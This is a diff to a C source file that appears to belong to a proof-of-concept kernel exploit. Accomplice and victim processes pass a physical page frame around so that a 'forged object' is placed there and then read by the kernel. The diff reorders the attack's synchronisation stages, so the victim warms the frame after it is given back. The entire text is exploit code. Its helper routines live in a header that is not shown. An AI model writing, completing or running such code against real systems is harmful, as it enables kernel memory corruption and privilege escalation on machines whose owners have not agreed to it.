@@ -1,6 +1,6 @@
 /*
- * A frame goes from the kernel to one process, which gives it back, and on to another, which puts a
- * forged object there. A processor that runs neither of them remembers it from the beginning.
+ * A frame goes from one process, which gives it back, to another, which puts a forged object there.
+ * A processor that runs neither of them has the kernel read it in between.
  */
 #include <sched.h>
 #include <signal.h>
@@ -13,7 +13,7 @@
 #include "attack.h"
 
 enum { CPU_OF_ACCOMPLICES, CPU_OF_VICTIM, NR_CPUS };
-enum { STAGE_PREDICTED = 1, STAGE_WARMED, STAGE_GIVEN_BACK, STAGE_FORGED, STAGE_CALLED };
+enum { STAGE_GIVEN_BACK = 1, STAGE_WARMED, STAGE_FORGED, STAGE_CALLED };
 enum { NR_TRIES = 64 };
 
 /* What the three processes share. */
@@ -53,8 +53,6 @@ static _Noreturn void first_owner(const struct bw_leak *leak)
 	uintptr_t page;
 
 	attack_frame_predict(leak, &shared->frame);
-	attack_tell(&shared->stage, STAGE_PREDICTED);
-	accomplice_await(STAGE_WARMED);
 	page = (uintptr_t)attack_frame_take(&shared->frame);
 	if (page != 0) {
 		attack_say("one process has frame 0x%lx, and gives it back", shared->frame.pfn);
@@ -69,7 +67,7 @@ static _Noreturn void second_owner(const struct bw_leak *leak)
 {
 	void *page = NULL;
 
-	accomplice_await(STAGE_GIVEN_BACK);
+	accomplice_await(STAGE_WARMED);
 	for (int i = 0; i < NR_TRIES && page == NULL; i++) {
 		page = attack_frame_take(&shared->frame);
 	}
@@ -85,7 +83,7 @@ static _Noreturn void second_owner(const struct bw_leak *leak)
 static void victim(void *unused)
 {
 	(void)unused;
-	attack_await(&shared->stage, STAGE_PREDICTED, AWAIT_SPIN);
+	attack_await(&shared->stage, STAGE_GIVEN_BACK, AWAIT_SPIN);
 	attack_warm(shared->frame.synonym);
 	attack_tell(&shared->stage, STAGE_WARMED);
 	attack_await(&shared->stage, STAGE_FORGED, AWAIT_SPIN);
